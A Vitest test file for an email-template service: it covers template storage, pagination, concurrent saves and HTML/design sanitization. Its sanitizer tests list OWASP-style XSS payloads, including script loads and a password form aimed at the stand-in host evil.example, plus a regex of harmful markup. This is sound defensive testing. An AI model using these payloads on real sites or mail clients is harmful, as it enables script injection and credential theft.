import { beforeAll, describe, expect, it } from 'vitest';
import { cleanDesign } from '#functions/areas/mail-templates/clean-design.ts';
import { cleanHtml, cleanStyle, plainTextOf } from '#functions/areas/mail-templates/clean-html.ts';
import { getTemplate, listTemplates } from '#functions/areas/mail-templates/read-templates.ts';
import { createTemplate, deleteTemplate, saveTemplate, updateTemplate } from '#functions/areas/mail-templates/save-template.ts';
import { companyKeys } from '#functions/data/keys.ts';
import { put } from '#functions/data/writes.ts';
import { emailId } from '#shared/contract/ids.ts';
import { given, type Home } from '#tests/support/given.ts';

let home: Home;
beforeAll(async () => {
  home = await given.company();
});

const template = { name: 'Boas-vindas', html: '<p>Olá, {nome}!</p>', design: '{"pages":[]}' };

describe('a template', () => {
  it('is kept with its HTML cleaned, its plain text, and its design', async () => {
    const html = '<body style="background: #fff"><p onclick="x()">Olá, {nome}!</p><a href="{descadastro}">Sair</a></body>';

    const { id } = await createTemplate(home.deps, home.admin, { ...template, html });

    expect(await getTemplate(home.deps, home.admin, id)).toMatchObject({
      name: 'Boas-vindas',
      html: expect.stringContaining('<body><div style="background: #fff"><p>Olá, {nome}!</p><a href="{descadastro}">Sair</a></div></body>'),
      text: 'Olá, {nome}!\n\nSair ({descadastro})',
      design: '{"pages":[]}',
    });
  });

  it('is listed newest first, page by page, and found by any part of its name', async () => {
    const own = await given.company({ deps: home.deps });
    for (let number = 1; number <= 23; number += 1) await createTemplate(own.deps, own.admin, { ...template, name: `Promoção ${number}` });

    const first = await listTemplates(own.deps, own.admin, {});
    const second = await listTemplates(own.deps, own.admin, { cursor: first.nextCursor });
    const found = await listTemplates(own.deps, own.admin, { searchParam: 'promocao 1' });

    expect(first.records.map(({ name }) => name)).toEqual(Array.from({ length: 20 }, (_, index) => `Promoção ${23 - index}`));
    expect([first.hasMore, second.hasMore, second.records.length]).toEqual([true, false, 3]);
    expect(found.records).toHaveLength(11);
  });

  it('keeps what two people save at once of its design and its HTML', async () => {
    const { id } = await createTemplate(home.deps, home.admin, template);

    await Promise.all([
      updateTemplate(home.deps, home.admin, id, { design: '{"pages":[{"id":"a"}]}' }),
      updateTemplate(home.deps, home.admin, id, { html: '<p>Até logo</p>' }),
    ]);

    expect(await getTemplate(home.deps, home.admin, id)).toMatchObject({ design: '{"pages":[{"id":"a"}]}', text: 'Até logo' });
  });

  it('that a scheduled campaign is to send is kept', async () => {
    const { id } = await createTemplate(home.deps, home.admin, template);
    const { companyId } = home.company;
    const key = companyKeys.email(companyId, emailId.parse(home.deps.clock.newId()));
    await home.deps.table.forCompany(companyId).commit(put(key, { type: 'email', name: 'Natal', templateId: id, status: 'PROGRAMADA' }));

    await expect(deleteTemplate(home.deps, home.admin, id)).rejects.toMatchObject({ code: 'ERR_MAIL_TEMPLATE_IN_USE', details: { name: 'Natal' } });
    await home.deps.table.forCompany(companyId).change(key, { set: { status: 'FINALIZADA' } });
    await deleteTemplate(home.deps, home.admin, id);
    await expect(getTemplate(home.deps, home.admin, id)).rejects.toMatchObject({ code: 'ERR_NO_MAIL_TEMPLATE_FOUND' });
  });

  it.each([
    ['<script>x</script>', 'ERR_MAIL_TEMPLATE_EMPTY'],
    [`<p>${'é'.repeat(60_000)}</p>`, 'ERR_MAIL_TEMPLATE_TOO_LARGE'],
  ])('of nothing, or of too much, is refused: %.20s', async (html, code) => {
    await expect(createTemplate(home.deps, home.admin, { ...template, html })).rejects.toMatchObject({ code });
  });

  it.each(['no JSON', '[]', '"text"', `${'{"a":'.repeat(100)}1${'}'.repeat(100)}`])('is refused with a design that is none: %.20s', async (design) => {
    await expect(createTemplate(home.deps, home.admin, { ...template, design })).rejects.toMatchObject({ code: 'ERR_MAIL_DESIGN_UNREADABLE' });
  });
});

describe("the specification's call", () => {
  it('made twice, with design and HTML, makes one template, and again changes it', async () => {
    const own = await given.company({ deps: home.deps });
    const first = await saveTemplate(own.deps, own.admin, { content: { pages: [] } });
    const second = await saveTemplate(own.deps, own.admin, { content: '<p>Confirme seu endereço</p>' });
    await saveTemplate(own.deps, own.admin, { content: '{"pages":[{"id":"b"}]}' });

    expect(second.id).toBe(first.id);
    expect(await getTemplate(own.deps, own.admin, first.id)).toMatchObject({ text: 'Confirme seu endereço', design: '{"pages":[{"id":"b"}]}' });
  });

  it('made at once by two pages makes one template, and a new one after that is deleted', async () => {
    const own = await given.company({ deps: home.deps });
    const made = await Promise.all([1, 2].map((number) => saveTemplate(own.deps, own.admin, { content: `<p>${number}</p>` })));
    const [{ id }] = made as [(typeof made)[0], (typeof made)[0]]; // both calls have answered

    expect(new Set(made.map((one) => one.id)).size).toBe(1);
    expect((await listTemplates(own.deps, own.admin, {})).records).toHaveLength(1);
    await deleteTemplate(own.deps, own.admin, id);
    expect((await saveTemplate(own.deps, own.admin, { content: '<p>3</p>' })).id).not.toBe(id);
  });

  it('made while another one is made makes no second template', async () => {
    const own = await given.company({ deps: home.deps });
    const { companyId } = own.company;
    const { table } = own.deps;
    let other: Promise<unknown> | undefined;
    // Once this call has seen that there is none, the other one makes its own.
    const late = {
      ...table,
      forCompany: (id: typeof companyId) => {
        const part = table.forCompany(id);
        const get: typeof part.get = async (...asked) => {
          const found = await part.get(...asked);
          other ??= saveTemplate(own.deps, own.admin, { content: '<p>1</p>' });
          await other;
          return found;
        };
        return { ...part, get };
      },
    };

    await saveTemplate({ ...own.deps, table: late }, own.admin, { content: '<p>2</p>' });

    expect((await listTemplates(own.deps, own.admin, {})).records).toHaveLength(1);
  });

  it('with the id of a template changes that one', async () => {
    const { id } = await createTemplate(home.deps, home.admin, template);

    await saveTemplate(home.deps, home.admin, { content: '<p>Nova</p>', templateId: id, name: 'Outra' });

    expect(await getTemplate(home.deps, home.admin, id)).toMatchObject({ name: 'Outra', text: 'Nova', design: '{"pages":[]}' });
  });
});

/** Markup that has run in mail programs and sanitizers before; https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
const vectors = [
  '<script>__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</title><script>__xss=1</script>',
  '<img src=x onerror=__xss=1>',
  '<img src="https://a.example/x.png" onload=__xss=1>',
  '<svg onload=__xss=1><path/></svg>',
  '<svg><style><img src=x onerror=__xss=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:__xss=1"></object>',
  '<embed src="javascript:__xss=1">',
  '<a href="javascript:__xss=1">a</a>',
  '<a href=" java\nscript:__xss=1">a</a>',
  '<a href="&#106;avascript:__xss=1">a</a>',
  '<a href="data:text/html,<script>__xss=1</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background: url(javascript:__xss=1)">a</p>',
  '<p style="background:url(http://evil.example/x.png)">a</p>',
  '<p style="width: expression(__xss=1)">a</p>',
  '<p style="width: exp/**/ression(__xss=1)">a</p>',
  '<p style="-moz-binding: url(https://evil.example/x.xml)">a</p>',
  '<p style="behavior: url(x.htc)">a</p>',
  '<p style="back\\67round: ur\\6c(javascript:__xss=1)">a</p>',
  '<div style="position: fixed; top: 0">a</div>',
  '<template><script>__xss=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss=1>"></noscript>',
  '<video><source onerror=__xss=1></video>',
  '<details open ontoggle=__xss=1>a</details>',
  '<!--><script>__xss=1</script>-->',
  '<xmp><script>__xss=1</script></xmp>',
];
const harmful =
  /<(?:script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|template|noscript|video|details|xmp)|\son\w+\s*=|javascript:|data:|expression\(|binding|behavior|url\(|fixed|srcdoc|evil\.example/i;

describe('cleaning', () => {
  it.each(vectors)('leaves nothing of %s that does something', (vector) => {
    const clean = cleanHtml(vector);

    expect(clean.replace(/&lt;[^]*?&gt;/g, '')).not.toMatch(harmful);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('keeps what mails are laid out with', () => {
    const html =
      '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff"><tbody><tr><td align="center" valign="top" colspan="2" style="padding: 24px; font-family: Arial, Helvetica, sans-serif; background-image: url(https://cdn.example.com/a.png)"><img src="https://cdn.example.com/logo.png" alt="Loja" width="120" /><h1>Olá, {nome}</h1><p>Você &amp; nós</p><a href="https://example.com/?a=1&amp;b=2" target="_blank">Ver</a></td></tr></tbody></table>';

    expect(cleanHtml(html)).toBe(html);
  });

  it.each([
    ['www.docesdaana.com.br', 'https://www.docesdaana.com.br'],
    [' docesdaana.com.br/bolos?de=e-mail#natal', 'https://docesdaana.com.br/bolos?de=e-mail#natal'],
    ['Pão-de-açúcar.com.br', 'https://Pão-de-açúcar.com.br'],
    ['oi@docesdaana.com.br', 'mailto:oi@docesdaana.com.br'],
    ['{site}/bolos', '{site}/bolos'],
    ['{site}?de={email}', '{site}?de={email}'],
  ])('makes a link that works of %s, as people type it', (typed, href) => {
    const html = cleanHtml(`<a href="${typed}">Ver</a>`);

    expect(html).toBe(`<a href="${href}">Ver</a>`);
    expect(cleanHtml(html)).toBe(html);
    expect(JSON.parse(cleanDesign(JSON.stringify({ attributes: { href: typed } })))).toEqual({ attributes: { href } });
  });

  it.each(['javascript.example:alert(1)', '{nome}javascript:alert(1)', 'java script.example', '//evil.example', 'bolos'])('makes none of %s', (typed) => {
    expect(cleanHtml(`<a href="${typed}">Ver</a>`)).toBe('<a>Ver</a>');
  });

  it('takes pictures by https and nothing else', () => {
    expect(cleanHtml('<img src="http://a.example/x.png"><img src="data:image/png;base64,AA"><img src="https://a.example/x.png">')).toBe(
      '<img src="https://a.example/x.png" />',
    );
  });

  it('judges each declaration of a style by itself', () => {
    expect(cleanStyle('color: red; background: url(http://a/b); font-family: "A;B", sans-serif; ; x; width: calc(100% - 2px)')).toBe(
      'color: red; font-family: "A;B", sans-serif; width: calc(100% - 2px)',
    );
  });

  it('leaves plain text that can be read', () => {
    const html =
      '<table><tr><td><h1>Confirme</h1><p>Olá, {nome}.</p></td></tr><tr><td><a href="https://a.example/x">Confirmar</a><img src="https://a/x.png" alt="Logo"></td></tr></table>';

    expect(plainTextOf(html)).toBe('Confirme\n\nOlá, {nome}.\n\nConfirmar (https://a.example/x)Logo');
  });

  it('takes out of a design what would run where it is opened', () => {
    const design = {
      pages: [
        {
          component: {
            type: 'wrapper',
            components: [
              { type: 'text', content: '<img src=x onerror=__xss=1>Olá', attributes: { onclick: '__xss=1', href: 'javascript:__xss=1', title: 'ok' } },
              { tagName: 'script', content: '__xss=1' },
              { type: 'link', script: '__xss=1', attributes: { href: '{descadastro}' } },
            ],
          },
        },
      ],
      styles: '@import url(https://evil.example/x.css); .a { background: url(http://a/b) }',
    };

    const clean = cleanDesign(JSON.stringify(design));

    expect(clean).not.toMatch(/__xss|evil|onerror|onclick|http:/);
    expect(clean).toContain('{descadastro}');
    expect(clean).toContain('"title":"ok"');
  });

  it('leaves the words of a design as they are, with their blanks', () => {
    const design = '{"components":[{"type":"textnode","content":"1 < 2 & 3 "},{"type":"text","content":"a <b>b</b> "}]}';

    expect(cleanDesign(design)).toBe(design);
  });
});
